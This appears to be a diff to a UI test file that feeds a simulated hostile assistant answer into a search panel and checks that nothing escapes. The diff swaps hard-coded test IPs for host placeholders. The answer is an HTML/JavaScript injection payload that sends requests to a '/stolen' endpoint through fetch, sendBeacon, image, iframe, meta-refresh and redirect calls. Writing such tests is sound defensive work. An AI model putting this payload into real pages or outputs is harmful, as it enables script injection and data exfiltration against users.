@@ -8,6 +8,7 @@ import time
 
 from harness.case import VelkinTestCase
 from harness.completions import Held, cutOff, raw, reset, sharedCompletions, status, well
+from harness.services import host
 from harness.waiting import settle, waitFor
 
 HOTKEY = "ctrl+shift+r"
@@ -331,15 +332,15 @@ class Search(VelkinTestCase):
     def testAHostileAnswerReachesNothing(self):
         self.begin()
         hostile = """<script>
-for (const host of ["127.83.0.1", "127.83.0.7"]) {
+for (const host of ["CHAT", "COMPLETIONS"]) {
   const to = "http://" + host + ":8471/stolen";
   fetch(to); new Image().src = to; navigator.sendBeacon(to, "x");
 }
-window.open("http://127.83.0.1:8471/stolen"); alert("hello"); location = "http://127.83.0.1:8471/stolen";
-</script><meta http-equiv="refresh" content="0;url=http://127.83.0.1:8471/stolen">
-<img src="http://127.83.0.1:8471/stolen"><iframe src="http://127.83.0.1:8471/stolen"></iframe>
+window.open("http://CHAT:8471/stolen"); alert("hello"); location = "http://CHAT:8471/stolen";
+</script><meta http-equiv="refresh" content="0;url=http://CHAT:8471/stolen">
+<img src="http://CHAT:8471/stolen"><iframe src="http://CHAT:8471/stolen"></iframe>
 
-The rest of it."""
+The rest of it.""".replace("CHAT", host(1)).replace("COMPLETIONS", host(7))
         self.completions.willAnswer(well(hostile))
         self.openPanel()
         self.ask("be good")
